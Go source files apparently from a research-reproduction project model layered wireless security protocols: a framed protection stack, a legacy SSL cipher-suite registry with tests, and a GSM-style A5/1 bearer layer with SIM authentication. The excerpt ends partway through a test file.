// payloads — the shape shared by wep.Endpoint and esp SA pairs.
type Protector interface {
	Seal(payload []byte) ([]byte, error)
	Open(frame []byte) ([]byte, error)
}

// MaxWireFrame is the single bound on a framed unit as it crosses the
// wire, enforced identically on both sides: writeFrame refuses to emit a
// larger frame and readFrame refuses to accept one. (The 2-byte length
// header could describe up to 0xffff bytes; anything above MaxWireFrame
// is treated as a framing error, not a frame.)
const MaxWireFrame = 1 << 15

// maxSealOverhead is the worst-case expansion a Protector.Seal may add
// (IVs, SPIs, sequence numbers, padding, ICVs — WEP adds 7 bytes, ESP at
// most ~40). Write chunks payloads at maxFrame so sealed frames always
// fit MaxWireFrame.
const maxSealOverhead = 64

// maxFrame bounds a single framed payload chunk.
const maxFrame = MaxWireFrame - maxSealOverhead

// Layer is one framed protection layer over a lower transport.
type Layer struct {
	name         string
	lower        io.ReadWriter
	prot         Protector
	perByteInstr float64

	readBuf []byte

	payloadOut, payloadIn int
	frameOut, frameIn     int
	instr                 float64
}

// NewLayer wraps lower with the given protector. perByteInstr is the
// modeled instruction cost per payload byte (cipher + integrity).
func NewLayer(name string, lower io.ReadWriter, p Protector, perByteInstr float64) (*Layer, error) {
	if lower == nil || p == nil {
		return nil, errors.New("stack: nil transport or protector")
	}
	return &Layer{name: name, lower: lower, prot: p, perByteInstr: perByteInstr}, nil
}

// Name returns the layer's name.
func (l *Layer) Name() string { return l.name }

// Write seals p into frames on the lower transport.
func (l *Layer) Write(p []byte) (int, error) {
	total := 0
	for len(p) > 0 {
		n := len(p)
		if n > maxFrame {
			n = maxFrame
		}
		frame, err := l.prot.Seal(p[:n])
		if err != nil {
			return total, fmt.Errorf("stack/%s: seal: %w", l.name, err)
		}
		if err := writeFrame(l.lower, frame); err != nil {
			return total, err
		}
		l.payloadOut += n
		l.frameOut += len(frame) + 2
		l.instr += float64(n) * l.perByteInstr
		total += n
		p = p[n:]
	}
	return total, nil
}

// Read opens frames from the lower transport into p.
func (l *Layer) Read(p []byte) (int, error) {
	for len(l.readBuf) == 0 {
		frame, err := readFrame(l.lower)
		if err != nil {
			return 0, err
		}
		payload, err := l.prot.Open(frame)
		if err != nil {
			return 0, fmt.Errorf("stack/%s: open: %w", l.name, err)
		}
		l.readBuf = append(l.readBuf, payload...)
		l.payloadIn += len(payload)
		l.frameIn += len(frame) + 2
		l.instr += float64(len(payload)) * l.perByteInstr
	}
	n := copy(p, l.readBuf)
	l.readBuf = l.readBuf[n:]
	return n, nil
}

// Stats reports the layer's accounting.
type Stats struct {
	Name                  string
	PayloadOut, PayloadIn int
	FrameOut, FrameIn     int // includes framing overhead
	Instr                 float64
}

// Stats returns a snapshot of the layer's accounting.
func (l *Layer) Stats() Stats {
	return Stats{
		Name:       l.name,
		PayloadOut: l.payloadOut, PayloadIn: l.payloadIn,
		FrameOut: l.frameOut, FrameIn: l.frameIn,
		Instr: l.instr,
	}
}

func writeFrame(w io.Writer, frame []byte) error {
	if len(frame) > MaxWireFrame {
		return fmt.Errorf("stack: outbound frame %d bytes exceeds MaxWireFrame %d", len(frame), MaxWireFrame)
	}
	hdr := []byte{byte(len(frame) >> 8), byte(len(frame))}
	if _, err := w.Write(hdr); err != nil {
		return err
	}
	_, err := w.Write(frame)
	return err
}

func readFrame(r io.Reader) ([]byte, error) {
	var hdr [2]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err
	}
	n := int(hdr[0])<<8 | int(hdr[1])
	if n > MaxWireFrame {
		return nil, fmt.Errorf("stack: inbound frame %d bytes exceeds MaxWireFrame %d", n, MaxWireFrame)
	}
	frame := make([]byte, n)
	if _, err := io.ReadFull(r, frame); err != nil {
		return nil, err
	}
	return frame, nil
}

// ESPPair adapts a pair of unidirectional SAs into a Protector.
type ESPPair struct {
	Out, In *esp.SA
}

// Seal seals on the outbound SA.
func (p *ESPPair) Seal(payload []byte) ([]byte, error) { return p.Out.Seal(payload) }

// Open opens on the inbound SA.
func (p *ESPPair) Open(frame []byte) ([]byte, error) { return p.In.Open(frame) }

// sublayer is one rung of the stack: a byte transport with accounting.
// Both framed Protector layers and the ARQ reliability layer satisfy it.
type sublayer interface {
	io.ReadWriter
	Name() string
	Stats() Stats
}

// Stack is a bottom-up composition of protection layers over a transport.
type Stack struct {
	transport io.ReadWriter
	layers    []sublayer
}

// New creates a stack over the raw transport.
func New(transport io.ReadWriter) *Stack {
	return &Stack{transport: transport}
}

// Push adds a protection layer on top of the current stack.
func (s *Stack) Push(name string, p Protector, perByteInstr float64) error {
	l, err := NewLayer(name, s.Top(), p, perByteInstr)
	if err != nil {
		return err
	}
	s.layers = append(s.layers, l)
	return nil
}

// arqLayer adapts an arq.Endpoint to the stack's accounting interface.
type arqLayer struct {
	name         string
	e            *arq.Endpoint
	perByteInstr float64
}

func (l *arqLayer) Read(p []byte) (int, error)  { return l.e.Read(p) }
func (l *arqLayer) Write(p []byte) (int, error) { return l.e.Write(p) }
func (l *arqLayer) Name() string                { return l.name }

func (l *arqLayer) Stats() Stats {
	st := l.e.Stats()
	return Stats{
		Name:       l.name,
		PayloadOut: st.PayloadOut, PayloadIn: st.PayloadIn,
		FrameOut: st.BytesOut, FrameIn: st.BytesIn,
		Instr: float64(st.PayloadOut+st.PayloadIn) * l.perByteInstr,
	}
}

// PushARQ adds an ARQ reliability layer on top of the current stack —
// normally pushed first, directly over a lossy frame-oriented transport
// such as chaos.FaultyTransport (each lower Read must return one whole
// frame; a raw byte pipe will not do). perByteInstr models the CRC and
// header processing cost per payload byte. The returned endpoint exposes
// retransmit statistics and must be Closed to stop its receive loop.
func (s *Stack) PushARQ(name string, cfg arq.Config, perByteInstr float64) (*arq.Endpoint, error) {
	e, err := arq.New(s.Top(), cfg)
	if err != nil {
		return nil, err
	}
	s.layers = append(s.layers, &arqLayer{name: name, e: e, perByteInstr: perByteInstr})
	return e, nil
}

// Top returns the highest layer (or the raw transport when empty); run
// application traffic — or a wtls.Conn — over it.
func (s *Stack) Top() io.ReadWriter {
	if len(s.layers) == 0 {
		return s.transport
	}
	return s.layers[len(s.layers)-1]
}

// Report returns per-layer statistics, bottom-up.
func (s *Stack) Report() []Stats {
	out := make([]Stats, 0, len(s.layers))
	for _, l := range s.layers {
		out = append(out, l.Stats())
	}
	return out
}

// TotalInstr sums the modeled instruction cost across layers.
func (s *Stack) TotalInstr() float64 {
	t := 0.0
	for _, l := range s.layers {
		t += l.Stats().Instr
	}
	return t
}

// WireBytesOut returns the bytes the bottom layer put on the wire — the
// figure the radio energy model charges for. With an ARQ bottom layer
// this includes acks and retransmissions.
func (s *Stack) WireBytesOut() int {
	if len(s.layers) == 0 {
		return 0
	}
	return s.layers[0].Stats().FrameOut
}
