package suite

import (
	"sync"
	"testing"
)

// The suite registry is read-only after package init, so any number of
// goroutines — the parallel sweep engine fans protocol work out across
// workers — must be able to look suites up concurrently. Run under -race.

func TestRegistryConcurrentReaders(t *testing.T) {
	t.Parallel()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				for _, s := range All() {
					got, err := ByID(s.ID)
					if err != nil || got != s {
						t.Errorf("ByID(%#04x) = %v, %v", s.ID, got, err)
						return
					}
					if _, err := ByName(s.Name); err != nil {
						t.Errorf("ByName(%s): %v", s.Name, err)
						return
					}
				}
			}
		}()
	}
	wg.Wait()
}

func TestNegotiateConcurrent(t *testing.T) {
	t.Parallel()
	all := All()
	offer := make([]uint16, len(all))
	for i, s := range all {
		offer[i] = s.ID
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				s, err := Negotiate(offer, offer)
				if err != nil || s == nil {
					t.Errorf("Negotiate: %v, %v", s, err)
					return
				}
			}
		}()
	}
	wg.Wait()
}
