// Package suite is the cipher-suite registry: the named combinations of
// key exchange, bulk cipher and MAC hash that the protocol layers
// negotiate.
//
// Section 3.1 of the paper builds its flexibility argument on exactly this
// matrix — "an RSA key exchange based SSL cipher suite would need to
// support 3-DES, RC4, RC2 or DES, along with the appropriate message
// authentication algorithm (SHA-1 or MD5)" — and on the desirability of
// supporting all allowed combinations for maximum interoperability.
package suite

import (
	"fmt"
	"hash"

	"repro/internal/cost"
	"repro/internal/crypto/aes"
	"repro/internal/crypto/des"
	"repro/internal/crypto/md5"
	"repro/internal/crypto/modes"
	"repro/internal/crypto/rc2"
	"repro/internal/crypto/rc4"
	"repro/internal/crypto/sha1"
)

// Kind distinguishes block from stream bulk ciphers.
type Kind int

// Cipher kinds.
const (
	BlockCipher Kind = iota
	StreamCipher
	NullCipher
)

// Stream is the stream-cipher interface (RC4 and CTR wrappers satisfy it).
type Stream interface {
	XORKeyStream(dst, src []byte)
}

// Suite describes one negotiable cipher suite.
type Suite struct {
	ID          uint16
	Name        string
	KeyExchange cost.HandshakeKind // RSA or DH connection set-up workload
	KexName     string             // "RSA", "DHE"
	Cipher      cost.Algorithm
	Kind        Kind
	KeyLen      int // bulk cipher key length in bytes
	IVLen       int // IV length (block suites)
	BlockSize   int
	MAC         cost.Algorithm
	MACKeyLen   int
	Export      bool // export-weakened suite

	// NewBlock constructs the block cipher for block suites.
	NewBlock func(key []byte) (modes.Block, error)
	// NewStream constructs the stream cipher for stream suites.
	NewStream func(key []byte) (Stream, error)
	// NewHash constructs the MAC hash.
	NewHash func() hash.Hash
}

// MACLen returns the MAC output length in bytes.
func (s *Suite) MACLen() int { return s.NewHash().Size() }

func newSHA1() hash.Hash { return sha1.New() }
func newMD5() hash.Hash  { return md5.New() }

var registry = []*Suite{
	{
		ID: 0x000A, Name: "RSA_WITH_3DES_EDE_CBC_SHA",
		KeyExchange: cost.HandshakeRSA1024, KexName: "RSA",
		Cipher: cost.DES3, Kind: BlockCipher, KeyLen: 24, IVLen: 8, BlockSize: 8,
		MAC: cost.SHA1, MACKeyLen: 20,
		NewBlock: func(key []byte) (modes.Block, error) { return des.NewTripleCipher(key) },
		NewHash:  newSHA1,
	},
	{
		ID: 0x0009, Name: "RSA_WITH_DES_CBC_SHA",
		KeyExchange: cost.HandshakeRSA1024, KexName: "RSA",
		Cipher: cost.DES, Kind: BlockCipher, KeyLen: 8, IVLen: 8, BlockSize: 8,
		MAC: cost.SHA1, MACKeyLen: 20,
		NewBlock: func(key []byte) (modes.Block, error) { return des.NewCipher(key) },
		NewHash:  newSHA1,
	},
	{
		ID: 0x0005, Name: "RSA_WITH_RC4_128_SHA",
		KeyExchange: cost.HandshakeRSA1024, KexName: "RSA",
		Cipher: cost.RC4, Kind: StreamCipher, KeyLen: 16,
		MAC: cost.SHA1, MACKeyLen: 20,
		NewStream: func(key []byte) (Stream, error) { return rc4.NewCipher(key) },
		NewHash:   newSHA1,
	},
	{
		ID: 0x0004, Name: "RSA_WITH_RC4_128_MD5",
		KeyExchange: cost.HandshakeRSA1024, KexName: "RSA",
		Cipher: cost.RC4, Kind: StreamCipher, KeyLen: 16,
		MAC: cost.MD5, MACKeyLen: 16,
		NewStream: func(key []byte) (Stream, error) { return rc4.NewCipher(key) },
		NewHash:   newMD5,
	},
	{
		ID: 0x0003, Name: "RSA_EXPORT_WITH_RC4_40_MD5",
		KeyExchange: cost.HandshakeRSA512, KexName: "RSA",
		Cipher: cost.RC4, Kind: StreamCipher, KeyLen: 5, Export: true,
		MAC: cost.MD5, MACKeyLen: 16,
		NewStream: func(key []byte) (Stream, error) { return rc4.NewCipher(key) },
		NewHash:   newMD5,
	},
	{
		ID: 0x0006, Name: "RSA_EXPORT_WITH_RC2_CBC_40_MD5",
		KeyExchange: cost.HandshakeRSA512, KexName: "RSA",
		Cipher: cost.RC2, Kind: BlockCipher, KeyLen: 5, IVLen: 8, BlockSize: 8, Export: true,
		MAC: cost.MD5, MACKeyLen: 16,
		NewBlock: func(key []byte) (modes.Block, error) { return rc2.NewCipherEffective(key, 40) },
		NewHash:  newMD5,
	},
	{
		ID: 0x002F, Name: "RSA_WITH_AES_128_CBC_SHA",
		KeyExchange: cost.HandshakeRSA1024, KexName: "RSA",
		Cipher: cost.AES, Kind: BlockCipher, KeyLen: 16, IVLen: 16, BlockSize: 16,
		MAC: cost.SHA1, MACKeyLen: 20,
		NewBlock: func(key []byte) (modes.Block, error) { return aes.NewCipher(key) },
		NewHash:  newSHA1,
	},
	{
		ID: 0x0016, Name: "DHE_RSA_WITH_3DES_EDE_CBC_SHA",
		KeyExchange: cost.HandshakeDH1024, KexName: "DHE",
		Cipher: cost.DES3, Kind: BlockCipher, KeyLen: 24, IVLen: 8, BlockSize: 8,
		MAC: cost.SHA1, MACKeyLen: 20,
		NewBlock: func(key []byte) (modes.Block, error) { return des.NewTripleCipher(key) },
		NewHash:  newSHA1,
	},
}

// All returns every registered suite (shared slice; do not mutate).
func All() []*Suite { return registry }

// ByID looks up a suite by its wire identifier.
func ByID(id uint16) (*Suite, error) {
	for _, s := range registry {
		if s.ID == id {
			return s, nil
		}
	}
	return nil, fmt.Errorf("suite: unknown suite id %#04x", id)
}

// ByName looks up a suite by name.
func ByName(name string) (*Suite, error) {
	for _, s := range registry {
		if s.Name == name {
			return s, nil
		}
	}
	return nil, fmt.Errorf("suite: unknown suite %q", name)
}

// Negotiate picks the first of the client's offered suite IDs that the
// server supports, modelling the hello exchange.
func Negotiate(clientOffer []uint16, serverSupported []uint16) (*Suite, error) {
	supported := make(map[uint16]bool, len(serverSupported))
	for _, id := range serverSupported {
		supported[id] = true
	}
	for _, id := range clientOffer {
		if supported[id] {
			return ByID(id)
		}
	}
	return nil, fmt.Errorf("suite: no common cipher suite")
}

// DefaultServerPreference is a reasonable server-side support list:
// everything, strongest first.
func DefaultServerPreference() []uint16 {
	return []uint16{0x002F, 0x000A, 0x0016, 0x0005, 0x0004, 0x0009, 0x0006, 0x0003}
}
