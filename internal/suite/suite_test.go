package suite

import (
	"bytes"
	"testing"

	"repro/internal/cost"
)

func TestRegistryIntegrity(t *testing.T) {
	seenID := map[uint16]bool{}
	seenName := map[string]bool{}
	for _, s := range All() {
		if seenID[s.ID] {
			t.Errorf("duplicate suite id %#04x", s.ID)
		}
		if seenName[s.Name] {
			t.Errorf("duplicate suite name %s", s.Name)
		}
		seenID[s.ID] = true
		seenName[s.Name] = true

		switch s.Kind {
		case BlockCipher:
			if s.NewBlock == nil || s.IVLen == 0 || s.BlockSize == 0 {
				t.Errorf("%s: incomplete block suite", s.Name)
			}
		case StreamCipher:
			if s.NewStream == nil {
				t.Errorf("%s: incomplete stream suite", s.Name)
			}
		}
		if s.NewHash == nil || s.MACKeyLen == 0 || s.KeyLen == 0 {
			t.Errorf("%s: missing MAC or key parameters", s.Name)
		}
		if s.MACLen() != s.NewHash().Size() {
			t.Errorf("%s: MACLen mismatch", s.Name)
		}
	}
}

// TestPaperSuiteMatrix: the Section 3.1 matrix — RSA key exchange with
// 3DES, RC4, RC2 and DES, each with SHA-1 or MD5 — must be representable.
func TestPaperSuiteMatrix(t *testing.T) {
	wantCiphers := map[cost.Algorithm]bool{cost.DES3: false, cost.RC4: false, cost.RC2: false, cost.DES: false}
	wantMACs := map[cost.Algorithm]bool{cost.SHA1: false, cost.MD5: false}
	for _, s := range All() {
		if s.KexName != "RSA" {
			continue
		}
		if _, ok := wantCiphers[s.Cipher]; ok {
			wantCiphers[s.Cipher] = true
		}
		if _, ok := wantMACs[s.MAC]; ok {
			wantMACs[s.MAC] = true
		}
	}
	for c, found := range wantCiphers {
		if !found {
			t.Errorf("paper cipher %s missing from RSA suites", c)
		}
	}
	for m, found := range wantMACs {
		if !found {
			t.Errorf("paper MAC %s missing from RSA suites", m)
		}
	}
}

func TestAllSuitesRoundtrip(t *testing.T) {
	for _, s := range All() {
		key := make([]byte, s.KeyLen)
		for i := range key {
			key[i] = byte(i + 1)
		}
		switch s.Kind {
		case BlockCipher:
			b, err := s.NewBlock(key)
			if err != nil {
				t.Fatalf("%s: NewBlock: %v", s.Name, err)
			}
			if b.BlockSize() != s.BlockSize {
				t.Errorf("%s: block size %d != declared %d", s.Name, b.BlockSize(), s.BlockSize)
			}
			pt := make([]byte, s.BlockSize)
			ct := make([]byte, s.BlockSize)
			back := make([]byte, s.BlockSize)
			b.Encrypt(ct, pt)
			b.Decrypt(back, ct)
			if !bytes.Equal(back, pt) {
				t.Errorf("%s: block roundtrip failed", s.Name)
			}
		case StreamCipher:
			sc1, err := s.NewStream(key)
			if err != nil {
				t.Fatalf("%s: NewStream: %v", s.Name, err)
			}
			sc2, _ := s.NewStream(key)
			msg := []byte("stream suite roundtrip")
			ct := make([]byte, len(msg))
			back := make([]byte, len(msg))
			sc1.XORKeyStream(ct, msg)
			sc2.XORKeyStream(back, ct)
			if !bytes.Equal(back, msg) {
				t.Errorf("%s: stream roundtrip failed", s.Name)
			}
		}
	}
}

func TestLookups(t *testing.T) {
	s, err := ByName("RSA_WITH_3DES_EDE_CBC_SHA")
	if err != nil || s.ID != 0x000A {
		t.Fatalf("ByName: %v %v", s, err)
	}
	s2, err := ByID(0x000A)
	if err != nil || s2 != s {
		t.Fatalf("ByID returned different suite")
	}
	if _, err := ByName("NOPE"); err == nil {
		t.Error("ByName accepted unknown")
	}
	if _, err := ByID(0xFFFF); err == nil {
		t.Error("ByID accepted unknown")
	}
}

func TestNegotiate(t *testing.T) {
	server := DefaultServerPreference()
	// Client preference order wins.
	s, err := Negotiate([]uint16{0x0004, 0x000A}, server)
	if err != nil || s.ID != 0x0004 {
		t.Fatalf("negotiated %v, %v", s, err)
	}
	// Unsupported offers are skipped.
	s, err = Negotiate([]uint16{0xBEEF, 0x000A}, server)
	if err != nil || s.ID != 0x000A {
		t.Fatalf("negotiated %v, %v", s, err)
	}
	// No overlap fails.
	if _, err := Negotiate([]uint16{0xBEEF}, server); err == nil {
		t.Fatal("negotiated with no overlap")
	}
	if _, err := Negotiate(nil, server); err == nil {
		t.Fatal("negotiated with empty offer")
	}
}

func TestExportSuitesMarked(t *testing.T) {
	for _, name := range []string{"RSA_EXPORT_WITH_RC4_40_MD5", "RSA_EXPORT_WITH_RC2_CBC_40_MD5"} {
		s, err := ByName(name)
		if err != nil {
			t.Fatal(err)
		}
		if !s.Export || s.KeyLen != 5 {
			t.Errorf("%s: export marking/key length wrong", name)
		}
		if s.KeyExchange != cost.HandshakeRSA512 {
			t.Errorf("%s: export suite should use the 512-bit handshake workload", name)
		}
	}
}

func TestDefaultServerPreferenceValid(t *testing.T) {
	for _, id := range DefaultServerPreference() {
		if _, err := ByID(id); err != nil {
			t.Errorf("server preference contains unknown id %#04x", id)
		}
	}
}
