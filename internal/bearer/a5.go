// Package bearer implements a GSM-style cellular bearer security layer:
// the A5/1 air-interface stream cipher (from scratch, faithful to the
// published LFSR structure) and SIM challenge-response authentication
// with session-key derivation.
//
// This is the bottom rung of the paper's protocol ladder — "security
// protocols provided in the bearer technologies (such as CDPD, GSM,
// CDMA...) may be used to provide network access domain security"
// (Section 2) — and its known fragility (GSM security references
// [15,16,24,25]) is why the upper WTLS/IPSec layers exist.
package bearer

// A5/1 register definitions (Briceno/Goldberg/Wagner reference
// disclosure): three LFSRs of 19, 22 and 23 bits with majority-rule
// stop/go clocking.
const (
	r1Len, r2Len, r3Len = 19, 22, 23

	r1Taps = (1 << 18) | (1 << 17) | (1 << 16) | (1 << 13)
	r2Taps = (1 << 21) | (1 << 20)
	r3Taps = (1 << 22) | (1 << 21) | (1 << 20) | (1 << 7)

	r1Clk = 8  // clocking bit of R1
	r2Clk = 10 // clocking bit of R2
	r3Clk = 10 // clocking bit of R3
)

// FrameBits is the keystream length per direction per frame (114 bits).
const FrameBits = 114

// FrameBytes is FrameBits rounded up to bytes (the last byte carries only
// 2 used bits).
const FrameBytes = (FrameBits + 7) / 8

type a5state struct {
	r1, r2, r3 uint32
}

func parity(x uint32) uint32 {
	x ^= x >> 16
	x ^= x >> 8
	x ^= x >> 4
	x ^= x >> 2
	x ^= x >> 1
	return x & 1
}

// clockOne advances one register unconditionally.
func (s *a5state) clockR1() { s.r1 = (s.r1<<1 | parity(s.r1&r1Taps)) & (1<<r1Len - 1) }
func (s *a5state) clockR2() { s.r2 = (s.r2<<1 | parity(s.r2&r2Taps)) & (1<<r2Len - 1) }
func (s *a5state) clockR3() { s.r3 = (s.r3<<1 | parity(s.r3&r3Taps)) & (1<<r3Len - 1) }

// clockAll advances all three registers (key/frame loading phase).
func (s *a5state) clockAll() {
	s.clockR1()
	s.clockR2()
	s.clockR3()
}

// clockMajority applies the stop/go rule: registers whose clocking bit
// agrees with the majority advance.
func (s *a5state) clockMajority() {
	b1 := s.r1 >> r1Clk & 1
	b2 := s.r2 >> r2Clk & 1
	b3 := s.r3 >> r3Clk & 1
	maj := (b1 & b2) | (b1 & b3) | (b2 & b3)
	if b1 == maj {
		s.clockR1()
	}
	if b2 == maj {
		s.clockR2()
	}
	if b3 == maj {
		s.clockR3()
	}
}

func (s *a5state) outputBit() uint32 {
	return ((s.r1 >> (r1Len - 1)) ^ (s.r2 >> (r2Len - 1)) ^ (s.r3 >> (r3Len - 1))) & 1
}

// A5Frame generates the two 114-bit keystream bursts (downlink, uplink)
// for a 64-bit session key and a 22-bit frame number.
func A5Frame(key [8]byte, frame uint32) (downlink, uplink [FrameBytes]byte) {
	var s a5state
	// Load the key LSB-first, XORing each bit into all registers.
	for i := 0; i < 64; i++ {
		bit := uint32(key[i/8]>>(uint(i)%8)) & 1
		s.clockAll()
		s.r1 ^= bit
		s.r2 ^= bit
		s.r3 ^= bit
	}
	// Load the 22-bit frame number the same way.
	for i := 0; i < 22; i++ {
		bit := frame >> uint(i) & 1
		s.clockAll()
		s.r1 ^= bit
		s.r2 ^= bit
		s.r3 ^= bit
	}
	// 100 mixing cycles with majority clocking, output discarded.
	for i := 0; i < 100; i++ {
		s.clockMajority()
	}
	gen := func(out *[FrameBytes]byte) {
		for i := 0; i < FrameBits; i++ {
			s.clockMajority()
			if s.outputBit()&1 == 1 {
				out[i/8] |= 1 << uint(7-i%8)
			}
		}
	}
	gen(&downlink)
	gen(&uplink)
	return downlink, uplink
}

// XORBurst XORs a payload of up to FrameBytes against a burst keystream.
func XORBurst(dst, src []byte, burst [FrameBytes]byte) int {
	n := len(src)
	if n > FrameBytes {
		n = FrameBytes
	}
	if len(dst) < n {
		n = len(dst)
	}
	for i := 0; i < n; i++ {
		dst[i] = src[i] ^ burst[i]
	}
	return n
}
