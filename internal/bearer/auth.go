package bearer

import (
	"errors"
	"fmt"
	"hash"
	"io"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/sha1"
)

// SIM challenge-response authentication in the GSM A3/A8 mold: the home
// network and the SIM share a subscriber key Ki; a RAND challenge yields
// a response SRES (proving possession) and a session cipher key Kc.
//
// Substitution note: real GSM used the (broken) COMP128 for A3/A8; this
// implementation derives both from HMAC-SHA-1 — the control flow,
// message pattern and key-handling behaviour are what the bearer layer
// experiments need, without reproducing COMP128's specific weakness.

// KiLen is the subscriber key length.
const KiLen = 16

// SRESLen is the authentication response length.
const SRESLen = 4

// KcLen is the derived session key length (64-bit, as in GSM — itself a
// documented weakness of the bearer layer).
const KcLen = 8

// SIM is the subscriber identity module holding Ki.
type SIM struct {
	IMSI string
	ki   []byte
}

// NewSIM provisions a SIM.
func NewSIM(imsi string, ki []byte) (*SIM, error) {
	if len(ki) != KiLen {
		return nil, fmt.Errorf("bearer: Ki must be %d bytes, got %d", KiLen, len(ki))
	}
	return &SIM{IMSI: imsi, ki: append([]byte{}, ki...)}, nil
}

func a3a8(ki, rand []byte) (sres [SRESLen]byte, kc [8]byte) {
	h := hmac.New(func() hash.Hash { return sha1.New() }, ki)
	h.Write([]byte("a3a8"))
	h.Write(rand)
	sum := h.Sum(nil)
	copy(sres[:], sum[:SRESLen])
	copy(kc[:], sum[SRESLen:SRESLen+KcLen])
	return sres, kc
}

// Respond runs the SIM side of the challenge: SRES to send back, Kc kept
// for ciphering.
func (s *SIM) Respond(rand []byte) (sres [SRESLen]byte, kc [8]byte) {
	return a3a8(s.ki, rand)
}

// AuthCenter is the home network's subscriber database.
type AuthCenter struct {
	subscribers map[string][]byte // IMSI -> Ki
	rng         io.Reader
	used        map[string]bool // issued RANDs, replay defense
}

// NewAuthCenter creates an authentication center drawing challenges from
// rng.
func NewAuthCenter(rng io.Reader) *AuthCenter {
	return &AuthCenter{subscribers: make(map[string][]byte), rng: rng, used: make(map[string]bool)}
}

// Provision registers a subscriber.
func (ac *AuthCenter) Provision(imsi string, ki []byte) error {
	if len(ki) != KiLen {
		return fmt.Errorf("bearer: Ki must be %d bytes", KiLen)
	}
	ac.subscribers[imsi] = append([]byte{}, ki...)
	return nil
}

// Challenge issues a fresh RAND for a subscriber.
func (ac *AuthCenter) Challenge(imsi string) ([]byte, error) {
	if _, ok := ac.subscribers[imsi]; !ok {
		return nil, fmt.Errorf("bearer: unknown subscriber %q", imsi)
	}
	rand := make([]byte, 16)
	if _, err := io.ReadFull(ac.rng, rand); err != nil {
		return nil, err
	}
	return rand, nil
}

// Errors returned by Verify.
var (
	ErrAuthFailed = errors.New("bearer: SRES mismatch")
	ErrReplayed   = errors.New("bearer: challenge response replayed")
)

// Verify checks the SIM's response and, on success, returns the session
// key Kc the network side will cipher with. Each (imsi, RAND) pair is
// accepted once.
func (ac *AuthCenter) Verify(imsi string, rand []byte, sres [SRESLen]byte) ([8]byte, error) {
	var kc [8]byte
	ki, ok := ac.subscribers[imsi]
	if !ok {
		return kc, fmt.Errorf("bearer: unknown subscriber %q", imsi)
	}
	tag := imsi + string(rand)
	if ac.used[tag] {
		return kc, ErrReplayed
	}
	wantSRES, wantKc := a3a8(ki, rand)
	var diff byte
	for i := range sres {
		diff |= sres[i] ^ wantSRES[i]
	}
	if diff != 0 {
		return kc, ErrAuthFailed
	}
	ac.used[tag] = true
	return wantKc, nil
}

// Channel is an authenticated, A5/1-ciphered bearer link. Each direction
// uses its burst of the per-frame keystream; the frame counter advances
// per burst pair.
type Channel struct {
	kc    [8]byte
	frame uint32
}

// NewChannel opens a bearer channel under an agreed session key.
func NewChannel(kc [8]byte) *Channel {
	return &Channel{kc: kc}
}

// Frame reports the current frame counter.
func (c *Channel) Frame() uint32 { return c.frame }

// SealFrame ciphers up to FrameBytes of downlink payload and advances the
// frame counter; it returns the frame number used (needed to decipher).
func (c *Channel) SealFrame(payload []byte) (uint32, []byte, error) {
	if len(payload) > FrameBytes {
		return 0, nil, fmt.Errorf("bearer: payload %d exceeds frame capacity %d", len(payload), FrameBytes)
	}
	frame := c.frame & 0x3fffff
	down, _ := A5Frame(c.kc, frame)
	out := make([]byte, len(payload))
	XORBurst(out, payload, down)
	c.frame++
	return frame, out, nil
}

// OpenFrame deciphers a downlink burst for a given frame number.
func (c *Channel) OpenFrame(frame uint32, sealed []byte) ([]byte, error) {
	if len(sealed) > FrameBytes {
		return nil, fmt.Errorf("bearer: burst %d exceeds frame capacity %d", len(sealed), FrameBytes)
	}
	down, _ := A5Frame(c.kc, frame&0x3fffff)
	out := make([]byte, len(sealed))
	XORBurst(out, sealed, down)
	return out, nil
}
