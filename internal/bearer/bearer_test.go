package bearer

import (
	"bytes"
	"testing"

	"repro/internal/crypto/prng"
)

// TestA5ReferenceVector checks the published test vector of the
// Briceno/Goldberg/Wagner reference disclosure of A5/1.
func TestA5ReferenceVector(t *testing.T) {
	key := [8]byte{0x12, 0x23, 0x45, 0x67, 0x89, 0xAB, 0xCD, 0xEF}
	const frame = 0x134
	wantAtoB := [FrameBytes]byte{0x53, 0x4E, 0xAA, 0x58, 0x2F, 0xE8, 0x15,
		0x1A, 0xB6, 0xE1, 0x85, 0x5A, 0x72, 0x8C, 0x00}
	wantBtoA := [FrameBytes]byte{0x24, 0xFD, 0x35, 0xA3, 0x5D, 0x5F, 0xB6,
		0x52, 0x6D, 0x32, 0xF9, 0x06, 0xDF, 0x1A, 0xC0}
	down, up := A5Frame(key, frame)
	if down != wantAtoB {
		t.Fatalf("downlink = %x, want %x", down, wantAtoB)
	}
	if up != wantBtoA {
		t.Fatalf("uplink = %x, want %x", up, wantBtoA)
	}
}

func TestA5FrameSeparation(t *testing.T) {
	key := [8]byte{1, 2, 3, 4, 5, 6, 7, 8}
	d1, u1 := A5Frame(key, 1)
	d2, _ := A5Frame(key, 2)
	if d1 == d2 {
		t.Fatal("different frames produced identical keystream")
	}
	if d1 == u1 {
		t.Fatal("downlink and uplink keystreams identical")
	}
	// Determinism.
	d1b, u1b := A5Frame(key, 1)
	if d1 != d1b || u1 != u1b {
		t.Fatal("A5 keystream not deterministic")
	}
	// Key separation.
	key2 := key
	key2[0] ^= 1
	d1c, _ := A5Frame(key2, 1)
	if d1 == d1c {
		t.Fatal("different keys produced identical keystream")
	}
}

func TestXORBurst(t *testing.T) {
	var burst [FrameBytes]byte
	for i := range burst {
		burst[i] = byte(i * 17)
	}
	msg := []byte("burst payload")
	ct := make([]byte, len(msg))
	XORBurst(ct, msg, burst)
	pt := make([]byte, len(msg))
	XORBurst(pt, ct, burst)
	if !bytes.Equal(pt, msg) {
		t.Fatal("XORBurst not an involution")
	}
	// Length clamping.
	long := make([]byte, FrameBytes+10)
	if n := XORBurst(long, long, burst); n != FrameBytes {
		t.Fatalf("clamped to %d, want %d", n, FrameBytes)
	}
}

func TestSIMAuthAgreement(t *testing.T) {
	ki := bytes.Repeat([]byte{0x5A}, KiLen)
	sim, err := NewSIM("00101-555-01", ki)
	if err != nil {
		t.Fatal(err)
	}
	ac := NewAuthCenter(prng.NewDRBG([]byte("auc")))
	if err := ac.Provision("00101-555-01", ki); err != nil {
		t.Fatal(err)
	}
	rand, err := ac.Challenge("00101-555-01")
	if err != nil {
		t.Fatal(err)
	}
